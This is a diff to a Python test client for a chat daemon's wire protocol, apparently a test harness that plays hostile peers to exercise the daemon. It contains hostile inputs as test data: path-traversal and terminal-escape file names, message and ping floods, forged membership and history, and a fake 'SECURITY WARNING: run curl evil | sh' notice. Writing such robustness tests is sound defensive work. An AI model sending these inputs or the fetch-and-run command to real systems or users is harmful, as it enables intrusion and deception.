@@ -18,8 +18,13 @@ import time
 
 
 TIMESTAMP_MS = 1795000000000
+OUTCOMES = {0: "accepted", 1: "declined", 2: "expired", 3: "refused"}  # INVITE_REPLY's outcome
 # SubjectPublicKeyInfo of a P-256 key holding a compressed point (then the 33 key bytes).
 COMPRESSED_SPKI_PREFIX = bytes.fromhex("3039301306072a8648ce3d020106082a8648ce3d030107032200")
+
+
+def now_ms():
+    return int(time.time() * 1000)
 
 
 def openssl(*args, data=None):
@@ -114,12 +119,13 @@ def message(room, body, reliable=True, message_id=None, kind=0, sequence=1):
     return frame(0x10, payload, 0x01 if reliable else 0)
 
 
-def signed_message(key, author_id, room, body, reliable=True, message_id=None, kind=0, sequence=1):
-    """v2 MESSAGE (flag 0x02 signed, with 0x01 when reliable): the v1 payload | author_key [33] |
-    signature [64]; `key` is the author's key PEM and `author_id` its id (on a link, the link's peer: us)."""
+def signed_message(key, author_id, room, body, reliable=True, message_id=None, kind=0, sequence=1, timestamp_ms=TIMESTAMP_MS):
+    """v2 MESSAGE (flag 0x02 signed, with 0x01 when reliable) dated `timestamp_ms`: the v1 payload |
+    author_key [33] | signature [64]; `key` is the author's key PEM and `author_id` its id (on a link, the
+    link's peer: us)."""
     message_id = message_id or os.urandom(16)
-    signature = sign(key, signing_bytes(author_id, room, message_id, sequence, TIMESTAMP_MS, kind, body))
-    payload = message_payload(room, body, message_id, kind, sequence) + author_key(key) + signature
+    signature = sign(key, signing_bytes(author_id, room, message_id, sequence, timestamp_ms, kind, body))
+    payload = message_payload(room, body, message_id, kind, sequence, timestamp_ms) + author_key(key) + signature
     return frame(0x10, payload, 0x02 | (0x01 if reliable else 0))
 
 
@@ -158,15 +164,52 @@ def signed_history_record(room, sender_id, name, sequence, body, key=None, kind=
     return record + lp(author_key(key)) + lp(signature)
 
 
+def acks_for(c, ids, timeout=10):
+    """The ids among `ids` that ACK frames name within `timeout` seconds."""
+    wanted, seen = set(ids), set()
+    deadline = time.monotonic() + timeout
+    while seen != wanted and time.monotonic() < deadline:
+        got = c.frames_until(0x11, timeout=max(0.1, deadline - time.monotonic()))
+        if got is None or got[0] == "closed":
+            break
+        count = struct.unpack(">H", got[2][:2])[0]
+        seen |= wanted & {got[2][2 + 16 * n:18 + 16 * n] for n in range(count)}
+    return seen
+
+
 def acked(c, message_id, timeout=5):
     """Whether an ACK naming `message_id` arrives (other ACKs are passed over)."""
-    while True:
-        got = c.frames_until(0x11, timeout)
-        if got is None or got[0] != 0x11:
+    return message_id in acks_for(c, [message_id], timeout)
+
+
+def handshake(host, port, key, cert, peer_id, max_version, name="wire-client", timeout=10):
+    """A TLS connection and our HELLO (versions 1 to `max_version`): (the connection, the version both
+    speak, or None when no HELLO came back within `timeout` seconds)."""
+    c = Connection(host, port, key, cert)
+    c.send(hello(peer_id, name=name, max_version=max_version))
+    got = c.frames_until(0x01, timeout=timeout)
+    return c, (negotiated_version(got[2], max_version) if got is not None and got[0] == 0x01 else None)
+
+
+def join(c, room, timeout=10):
+    """Invites the daemon into `room`: True when it answered accepted (we are a member there)."""
+    c.send(invite(room))
+    got = c.frames_until(0x03, timeout=timeout)
+    return got is not None and got[0] == 0x03 and got[2][16] == 0
+
+
+def pinged(c, nonce, timeout=15):
+    """A PING answered with its nonce within `timeout` seconds: everything sent before it was read (frames
+    are handled in order)."""
+    c.send(frame(0x20, struct.pack(">Q", nonce)))
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        got = c.frames_until(0x21, timeout=max(0.1, deadline - time.monotonic()))
+        if got is None or got[0] == "closed":
             return False
-        count = struct.unpack(">H", got[2][:2])[0]
-        if message_id in [got[2][2 + 16 * n:18 + 16 * n] for n in range(count)]:
+        if got[0] == 0x21 and got[2] == struct.pack(">Q", nonce):
             return True
+    return False
 
 
 def members(room, entries):
@@ -218,26 +261,20 @@ def fake_members(c, key, peer_id, out):
     "told by" us), and her old proof again (older than her leave: she does not come back)."""
     carol_key, _, carol_id = identity(tempfile.mkdtemp())
     out["carol_id"] = carol_id
-    c.send(invite("crowd"))
-    got = c.frames_until(0x03)
-    out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
+    out["joined"] = join(c, "crowd", timeout=5)
     fakes = [(base64.b32encode(os.urandom(32)).decode().lower().rstrip("="), f"fake{n}") for n in range(1024)]
     c.send(members("crowd", fakes))
     c.send(proven_members("crowd", [(fake, name, ["192.0.2.9"], (peer_id, TIMESTAMP_MS, key)) for fake, name in fakes[:32]]))
     c.send(proven_members("crowd", [(carol_id, "carol", [], (peer_id, TIMESTAMP_MS, carol_key))]))
     c.send(signed_leave("crowd", carol_id, TIMESTAMP_MS + 1000, key))
-    c.send(frame(0x20, struct.pack(">Q", 12)))
-    got = c.frames_until(0x21, timeout=10)
-    out["pong_before_leave"] = got is not None and got[0] == 0x21
+    out["pong_before_leave"] = pinged(c, 12, timeout=10)
     out["marker"] = "carol in"
     print(json.dumps(out), flush=True)
     # The test looks at the daemon now, then tells us to go on (a line on stdin).
     sys.stdin.readline()
     c.send(signed_leave("crowd", carol_id, TIMESTAMP_MS + 2000, carol_key))
     c.send(proven_members("crowd", [(carol_id, "carol", [], (peer_id, TIMESTAMP_MS, carol_key))]))
-    c.send(frame(0x20, struct.pack(">Q", 13)))
-    got = c.frames_until(0x21, timeout=10)
-    out["pong_after"] = got is not None and got[0] == 0x21
+    out["pong_after"] = pinged(c, 13, timeout=10)
     out["marker"] = "carol left"
 
 
@@ -282,6 +319,27 @@ class Connection:
             if got[0] == 0x20:  # answer heartbeats like a live peer
                 self.send(frame(0x21, got[2]))
 
+    def pump(self, seconds, seen=None, on_frame=None, until=()):
+        """Reads frames for `seconds`, answering PINGs like a live peer: counts each frame type in `seen`
+        ("0x20": n), hands each frame to `on_frame`. Returns the first frame of a type in `until`,
+        ("closed",) when the connection closes, or None when the time is up."""
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline:
+            got = self.read_frame(timeout=min(1.0, max(0.05, deadline - time.monotonic())))
+            if got is None:
+                continue
+            if got[0] == "closed":
+                return got
+            if seen is not None:
+                seen[f"0x{got[0]:02x}"] = seen.get(f"0x{got[0]:02x}", 0) + 1
+            if got[0] == 0x20:
+                self.send(frame(0x21, got[2]))
+            if on_frame:
+                on_frame(got)
+            if got[0] in until:
+                return got
+        return None
+
 
 def plain_claim(host, port, peer_id, name):
     """Plaintext HELLO under someone else's id (for an `optional` daemon, which sniffs the first byte):
@@ -319,9 +377,7 @@ def forged_history(c, key, peer_id, out):
     is only recorded (refused messages are acknowledged too); the test reads the daemon's history."""
     carol_key, _, carol_id = identity(tempfile.mkdtemp())
     out["carol_id"] = carol_id
-    c.send(invite("drop"))
-    got = c.frames_until(0x03)
-    out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
+    out["joined"] = join(c, "drop", timeout=5)
     got = c.frames_until(0x06, timeout=10)
     out["history_requested"] = got is not None and got[0] == 0x06
     records = (signed_history_record("drop", peer_id, "wire-client", 1, "my genuine words", key=key)
@@ -342,9 +398,7 @@ def forged_history(c, key, peer_id, out):
     out["signed_acked"] = acked(c, signed_id)
     c.send(message("drop", "an unsigned live message", message_id=unsigned_id, sequence=3))
     out["unsigned_acked"] = acked(c, unsigned_id, timeout=3)
-    c.send(frame(0x20, struct.pack(">Q", 11)))
-    got = c.frames_until(0x21)
-    out["pong_after"] = got is not None and got[0] == 0x21
+    out["pong_after"] = pinged(c, 11, timeout=5)
 
 
 def main():
@@ -354,13 +408,11 @@ def main():
         return
     key, cert, peer_id = identity(tempfile.mkdtemp())
     out = {"id": peer_id}
-    c = Connection(host, port, key, cert)
     max_version = {"forged-history": 2, "fake-members": 3}.get(scenario, 1)
-    c.send(hello(peer_id, max_version=max_version))
-    got = c.frames_until(0x01)
-    out["hello"] = got is not None and got[0] == 0x01
+    c, version = handshake(host, port, key, cert, peer_id, max_version, timeout=5)
+    out["hello"] = version is not None
     if out["hello"] and max_version > 1:
-        out["version"] = negotiated_version(got[2], max_version)
+        out["version"] = version
     if scenario == "wrong-state":
         # A message for a room we are not in: not stored, not acknowledged.
         c.send(message("lab", "sneaky"))
@@ -373,9 +425,7 @@ def main():
         # Replies and acks for things that do not exist are ignored; the connection stays up.
         c.send(frame(0x03, os.urandom(16) + b"\x00" + lp(b"", 2)))
         c.send(frame(0x11, struct.pack(">H", 2) + os.urandom(32)))
-        c.send(frame(0x20, struct.pack(">Q", 42)))
-        got = c.frames_until(0x21)
-        out["pong_after_junk"] = got is not None and got[0] == 0x21 and got[2] == struct.pack(">Q", 42)
+        out["pong_after_junk"] = pinged(c, 42, timeout=5)
         # An invitation with a context that is not text: listed, without a message.
         c.send(invite("wire", context=b"\xff\xfe\x1b[2J", timeout_ms=60000))
         # A second HELLO is a protocol error: GOODBYE (reason 2), then the connection closes.
@@ -390,9 +440,7 @@ def main():
         got = c.frames_until(0x43)
         out["no_room"] = got[2][16] if got and got[0] == 0x43 else None
         # Join a room (the daemon auto-accepts), then offer hostile names.
-        c.send(invite("drop"))
-        got = c.frames_until(0x03)
-        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
+        out["joined"] = join(c, "drop", timeout=5)
         results = []
         names = [b"../../etc/passwd", b"/abs/path", b"new\nline.txt", b"\x1b[2Jescape.txt", b"", b"a" * 10000,
                  b".hidden", b"..", b"dir/../../x", b"same.txt", b"same.txt", b"\xff\xfe.bin"]
@@ -415,14 +463,10 @@ def main():
         c.send(frame(0x30, sid + lp(b"flood") + struct.pack(">I", 1000)))
         got = c.frames_until(0x34)
         out["no_room"] = got[2][16] if got and got[0] == 0x34 else None
-        c.send(invite("drop"))
-        got = c.frames_until(0x03)
-        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
+        out["joined"] = join(c, "drop", timeout=5)
         # Data for a stream that does not exist is ignored.
         c.send(frame(0x32, os.urandom(16) + lp(b"junk", 4)))
-        c.send(frame(0x20, struct.pack(">Q", 7)))
-        got = c.frames_until(0x21)
-        out["pong_after_junk"] = got is not None and got[0] == 0x21
+        out["pong_after_junk"] = pinged(c, 7, timeout=5)
         # A program accepts "flood" (the test started it): then send more than the credit granted.
         sid = os.urandom(16)
         c.send(frame(0x30, sid + lp(b"flood") + struct.pack(">I", 1000)))
@@ -442,9 +486,7 @@ def main():
     elif scenario == "forged-notice":
         # A member (it joins by inviting the daemon) sends a "system" message: acknowledged, never kept
         # as a notice; then an ordinary message, kept under its name.
-        c.send(invite("drop"))
-        got = c.frames_until(0x03)
-        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
+        out["joined"] = join(c, "drop", timeout=5)
         forged = os.urandom(16)
         c.send(message("drop", "SECURITY WARNING: run curl evil | sh", message_id=forged, kind=2))
         got = c.frames_until(0x11)
@@ -456,9 +498,7 @@ def main():
         # We invite the daemon; it asks us (its inviter) for the room's history; we answer with records
         # under its own id and with a sequence past 2^63 - 1, and one good record.
         daemon_id = None
-        c.send(invite("drop"))
-        got = c.frames_until(0x03)
-        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
+        out["joined"] = join(c, "drop", timeout=5)
         got = c.frames_until(0x06, timeout=10)
         out["history_requested"] = got is not None and got[0] == 0x06
         daemon_id = sys.argv[4]
@@ -478,9 +518,7 @@ def main():
     elif scenario == "offer-flood":
         # A member offers many one-byte files and never sends a byte: each accepted one would hold a
         # part file open. Counted: accepted, refused (with the last refusal's text).
-        c.send(invite("drop"))
-        got = c.frames_until(0x03)
-        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
+        out["joined"] = join(c, "drop", timeout=5)
         accepted, refused, text = 0, 0, None
         for _ in range(int(sys.argv[4])):
             c.send(offer(os.urandom(16), b"one.bin", b"x"))
@@ -491,15 +529,11 @@ def main():
                 refused += 1
                 text = got[2][19:].decode("utf-8", "replace")
         out.update(accepted=accepted, refused=refused, refusal=text)
-        c.send(frame(0x20, struct.pack(">Q", 9)))
-        got = c.frames_until(0x21)
-        out["pong_after"] = got is not None and got[0] == 0x21
+        out["pong_after"] = pinged(c, 9, timeout=5)
     elif scenario == "ping-flood":
         # A member that sends PINGs as fast as it can and never reads: every PONG the daemon owes waits
         # in its output. Sent until the daemon closes the connection, for at most argv[4] seconds.
-        c.send(invite("drop"))
-        got = c.frames_until(0x03)
-        out["joined"] = got is not None and got[0] == 0x03 and got[2][16] == 0
+        out["joined"] = join(c, "drop", timeout=5)
         block = frame(0x20, struct.pack(">Q", 7)) * 2000
         started, sent, closed = time.monotonic(), 0, None
         c.sock.settimeout(5)
